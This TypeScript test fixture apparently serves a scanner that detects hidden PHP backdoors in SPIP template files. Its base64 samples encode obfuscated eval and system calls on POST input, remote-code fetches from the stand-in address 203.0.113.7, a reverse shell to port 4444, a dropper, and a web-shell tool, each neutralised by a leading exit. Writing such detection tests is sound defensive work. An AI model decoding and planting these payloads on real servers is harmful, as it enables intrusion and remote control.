import type { Sample } from '../types.ts'

/** Texts and names that are more than they seem, and code from elsewhere. */
export const hiddenSamples: readonly Sample[] = [
  {
    name: 'a callback that compares',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGEgPSBhcnJheSgkX1BPU1RbIngiXSwgMSk7IHVzb3J0KCRhLCAiYXNzIiAuICJlcnQiKTs=',
    expect: ['php-hidden-call', 'php-request-code'],
  },
  {
    name: 'a closure in a class constant',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgY2xhc3MgVCB7IGNvbnN0IEEgPSBhcnJheSgxID0+ICJhcyIsIDIgPT4gInNlIiwgMyA9PiAicnQiKTsgZnVuY3Rpb24gZ28oKSB7ICRmID0gaW1wbG9kZSgiIiwgc2VsZjo6QSk7ICRmKCRfUE9TVFsieCJdKTsgfSB9ICR0ID0gbmV3IFQoKTsgJHQtPmdvKCk7',
    expect: ['php-hidden-call', 'php-request-code'],
  },
  {
    name: 'gz and base64',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZXZhbChnemluZmxhdGUoYmFzZTY0X2RlY29kZSgiQmNFeENvQkFERVhCcTd6Q2FwdEYyOFhEUkFrYlFmSUxJM2g4Wi93TXNRNTZ3eWovaWdvcnJvZGJPZkhVTzRNU2g2TjBXbWN4ZHJieEF3PT0iKSkpOw==',
    expect: ['php-hidden-code'],
  },
  {
    name: 'rot13, base64, and a function of its own',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gdW4oJHQpIHsgcmV0dXJuIHN0cl9yb3QxMyhiYXNlNjRfZGVjb2RlKCR0KSk7IH0gJHggPSB1bigiY25CMVlpQWlZV0puZFhaaGRDSTdJQ1J1SUQwZ01Ucz0iKTsgZXZhbCgkeCk7',
    expect: ['php-hidden-code'],
  },
  {
    name: 'a loop that turns letters',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHMgPSAiZmRpcCEyMzQ1Njwhc2Z1dnNvITI8IjsgJG8gPSAiIjsgZm9yICgkaSA9IDA7ICRpIDwgc3RybGVuKCRzKTsgJGkrKykgJG8gLj0gY2hyKG9yZCgkc1skaV0pIC0gMSk7IGV2YWwoJG8pOw==',
    expect: ['php-hidden-code'],
  },
  {
    name: 'letters with a key',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGQgPSAiXHgyZVx4MjhceDIzXHgyNFx4NmJceDdhXHg3OVx4NzhceDdmXHg3ZVx4NzBceDZiXHgzOVx4MmVceDNmXHgzZVx4MzlceDI1XHg3MCI7ICRvID0gJGQgXiBzdHJfcmVwZWF0KCJLIiwgc3RybGVuKCRkKSk7IGV2YWwoJG8pOw==',
    expect: ['php-hidden-code'],
  },
  {
    name: 'a table of letters',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHQgPSAiMGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6XzY0IjsgJGYgPSAkdFsyXSAuICR0WzFdIC4gJHRbMTldIC4gJHRbNV0gLiAkdFsyOF0gLiAkdFsyOV0gLiAkdFsyN10gLiAkdFs0XSAuICR0WzVdIC4gJHRbM10gLiAkdFsxNV0gLiAkdFs0XSAuICR0WzVdOyBldmFsKCRmKCJaV05vYnlBeE95QnlaWFIxY200Z01qc2dMeThnZUE9PSIpKTs=',
    expect: ['php-hidden-code', 'php-hidden-call'],
  },
  {
    name: 'letters built by counting',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJF8gPSAiYSI7IGZvciAoJGkgPSAwOyAkaSA8IDE4OyAkaSsrKSAkXysrOyAkX18gPSAkXzsgJF9fXyA9ICJ5IjsgJGYgPSAkX18gLiAkX19fIC4gJF9fIC4gInRlbSI7ICRmKCR4KTs=',
    expect: ['php-hidden-call'],
  },
  {
    name: "letters of an array's name",
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJF8gPSBbXTsgJF8gPSBAIiRfIjsgJF8gPSAkX1siISIgPT0gIkAiXTsgJHMgPSAkXzsgJHMrKzsgZWNobyAkczsgJGYgPSAiY3JlYXRlXyIgLiAiZnVuY3Rpb24iOyAkZigiIiwgImVjaG8gMTsiKTs=',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a name out of an array',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJHAgPSBhcnJheSgic3lzIiwgInRlbSIpOyAkZiA9IGpvaW4oIiIsICRwKTsgJGYoJHgpOw==',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a name with letters taken out',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGYgPSBzdHJfcmVwbGFjZSgiX1pfIiwgIiIsICJjcl9aX2VhdGVfZl9aX3VuY3RfWl9pb24iKTsgJGcgPSAkZigiIiwgJHgpOyAkZygpOw==',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a name in another alphabet',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGYgPSBzdHJ0cigiZmxmZ3J6IiwgImFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6IiwgIm5vcHFyc3R1dnd4eXphYmNkZWZnaGlqa2xtIik7ICRmKCR4KTs=',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a name with comments in it',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJHNyPSJzdCIuLyorKi8icnIiLyorKi8uImV2IjsgJHJuPSRzci8qKyovKCJtZXQiLiJzeXMiKTsgJHJuKCR4KTs=',
    expect: ['php-hidden-call'],
  },
  {
    name: 'bare words put together',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGYgPSAoc3kuKHN0KS4oZW0pKTsgJGYoJHgpOw==',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a hidden text that nobody is seen to run',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHAgPSAiUEQ5d2FIQWdhV1lnS0dsemMyVjBLQ1JmVUU5VFZGc2lZeUpkS1NrZ2V5QmxkbUZzS0NSZlVFOVRWRnNpWXlKZEtUc2dmU0F2S2lCaGJtUWdiVzl5WlNCdlppQnBkQ0FxTHlBL1BnPT0iOyBzdG9yZSgkcCk7',
    expect: ['php-hidden-text'],
  },
  {
    name: 'a hidden text in hexadecimal',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHAgPSAiM2MzZjcwNjg3MDIwNzM3OTczNzQ2NTZkMjgyNDVmNDc0NTU0NWIyMjYzMjI1ZDI5M2IyMDY1NjM2ODZmMjAyMjc0Njg2MTc0MjA3NzYxNzMyMDY5NzQyYzIwNjE2ZTY0MjA2MTIwNmM2OTc0NzQ2YzY1MjA2ZDZmNzI2NTIyM2IiOyBzdG9yZSgkcCk7',
    expect: ['php-hidden-text'],
  },
  {
    name: 'a program from elsewhere',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGMgPSBjdXJsX2luaXQoImh0dHA6Ly8yMDMuMC4xMTMuNy94LnR4dCIpOyAkdCA9IGN1cmxfZXhlYygkYyk7IGV2YWwoIj8+IiAuICR0KTs=',
    expect: ['php-remote-code'],
  },
  {
    name: 'a program from elsewhere, through a function',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gZ2V0KCR1KSB7IHJldHVybiBmaWxlX2dldF9jb250ZW50cygkdSk7IH0gJHQgPSBnZXQoImh0dHA6Ly8yMDMuMC4xMTMuNy94LnR4dCIpOyBldmFsKCR0KTs=',
    expect: ['php-remote-code'],
  },
  {
    name: 'a program from elsewhere into a file',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHQgPSBmaWxlX2dldF9jb250ZW50cygiaHR0cDovLzIwMy4wLjExMy43L3gudHh0Iik7IGZpbGVfcHV0X2NvbnRlbnRzKCJ3cC1jYWNoZS5waHAiLCAkdCk7',
    expect: ['php-remote-code'],
  },
  {
    name: 'a shell for somebody elsewhere',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHMgPSBmc29ja29wZW4oIjIwMy4wLjExMy43IiwgNDQ0NCk7ICRwID0gcHJvY19vcGVuKCIvYmluL3NoIC1pIiwgYXJyYXkoMCA9PiAkcywgMSA9PiAkcywgMiA9PiAkcyksICRwaXBlcyk7',
    expect: ['php-remote-code'],
  },
  {
    name: 'a dropper',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGMgPSBiYXNlNjRfZGVjb2RlKCJQRDl3YUhBZ1pYWmhiQ2drWDFCUFUxUmJJbmdpWFNrN0lDOHZJRzV2ZEdocGJtY2daV3h6WlE9PSIpOyAkaCA9IGZvcGVuKCJpbmMvYS5waHAiLCAidyIpOyBmcHV0cygkaCwgJGMpOw==',
    expect: ['php-writes-code'],
  },
  {
    name: 'a tool with many abilities',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgaWYgKCRfUE9TVFsicCJdKSB7ICRkID0gb3BlbmRpcigiLiIpOyB3aGlsZSAoJGYgPSByZWFkZGlyKCRkKSkgZWNobyBmaWxlcGVybXMoJGYpOyB1bmxpbmsoImEiKTsgcm1kaXIoImIiKTsgY2htb2QoImMiLCA1MTEpOyBta2RpcigiZCIpOyByZW5hbWUoImUiLCAiZiIpOyAkcyA9IGZzb2Nrb3BlbigiaCIsIDEpOyBwaHBpbmZvKCk7IHNldF90aW1lX2xpbWl0KDApOyByZWFkZmlsZSgiZyIpOyBmd3JpdGUoJGgsICJpIik7IG15c3FsX2Nvbm5lY3QoImoiKTsgZWNobyBzaGVsbF9leGVjKCJpZCIpOyB9',
    expect: ['php-server-tool'],
  },
  {
    name: 'a tangle nobody follows to its end',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZm9yICgkaSA9IDA7ICRpIDwgNTkwMDA7ICRpKyspIHsgJHggPSBjaHIoJGkgJSAyNTYpIC4gY2hyKCRpKTsgJHkgPSBzdHJsZW4oJHgpOyB9IGZvciAoJGkgPSAwOyAkaSA8IDU5MDAwOyAkaSsrKSB7ICR4ID0gY2hyKCRpICUgMjU2KSAuIGNocigkaSk7ICR5ID0gc3RybGVuKCR4KTsgfSBmb3IgKCRpID0gMDsgJGkgPCA1OTAwMDsgJGkrKykgeyAkeCA9IGNocigkaSAlIDI1NikgLiBjaHIoJGkpOyAkeSA9IHN0cmxlbigkeCk7IH0gZm9yICgkaSA9IDA7ICRpIDwgNTkwMDA7ICRpKyspIHsgJHggPSBjaHIoJGkgJSAyNTYpIC4gY2hyKCRpKTsgJHkgPSBzdHJsZW4oJHgpOyB9IGZvciAoJGkgPSAwOyAkaSA8IDU5MDAwOyAkaSsrKSB7ICR4ID0gY2hyKCRpICUgMjU2KSAuIGNocigkaSk7ICR5ID0gc3RybGVuKCR4KTsgfSBmb3IgKCRpID0gMDsgJGkgPCA1OTAwMDsgJGkrKykgeyAkeCA9IGNocigkaSAlIDI1NikgLiBjaHIoJGkpOyAkeSA9IHN0cmxlbigkeCk7IH0gZm9yICgkaSA9IDA7ICRpIDwgNTkwMDA7ICRpKyspIHsgJHggPSBjaHIoJGkgJSAyNTYpIC4gY2hyKCRpKTsgJHkgPSBzdHJsZW4oJHgpOyB9IGZvciAoJGkgPSAwOyAkaSA8IDU5MDAwOyAkaSsrKSB7ICR4ID0gY2hyKCRpICUgMjU2KSAuIGNocigkaSk7ICR5ID0gc3RybGVuKCR4KTsgfSBmb3IgKCRpID0gMDsgJGkgPCA1OTAwMDsgJGkrKykgeyAkeCA9IGNocigkaSAlIDI1NikgLiBjaHIoJGkpOyAkeSA9IHN0cmxlbigkeCk7IH0gZm9yICgkaSA9IDA7ICRpIDwgNTkwMDA7ICRpKyspIHsgJHggPSBjaHIoJGkgJSAyNTYpIC4gY2hyKCRpKTsgJHkgPSBzdHJsZW4oJHgpOyB9IGZvciAoJGkgPSAwOyAkaSA8IDU5MDAwOyAkaSsrKSB7ICR4ID0gY2hyKCRpICUgMjU2KSAuIGNocigkaSk7ICR5ID0gc3RybGVuKCR4KTsgfSBmb3IgKCRpID0gMDsgJGkgPCA1OTAwMDsgJGkrKykgeyAkeCA9IGNocigkaSAlIDI1NikgLiBjaHIoJGkpOyAkeSA9IHN0cmxlbigkeCk7IH0gZm9yICgkaSA9IDA7ICRpIDwgNTkwMDA7ICRpKyspIHsgJHggPSBjaHIoJGkgJSAyNTYpIC4gY2hyKCRpKTsgJHkgPSBzdHJsZW4oJHgpOyB9IGZvciAoJGkgPSAwOyAkaSA8IDU5MDAwOyAkaSsrKSB7ICR4ID0gY2hyKCRpICUgMjU2KSAuIGNocigkaSk7ICR5ID0gc3RybGVuKCR4KTsgfSBmb3IgKCRpID0gMDsgJGkgPCA1OTAwMDsgJGkrKykgeyAkeCA9IGNocigkaSAlIDI1NikgLiBjaHIoJGkpOyAkeSA9IHN0cmxlbigkeCk7IH0g',
    expect: ['php-not-followed'],
  },
]
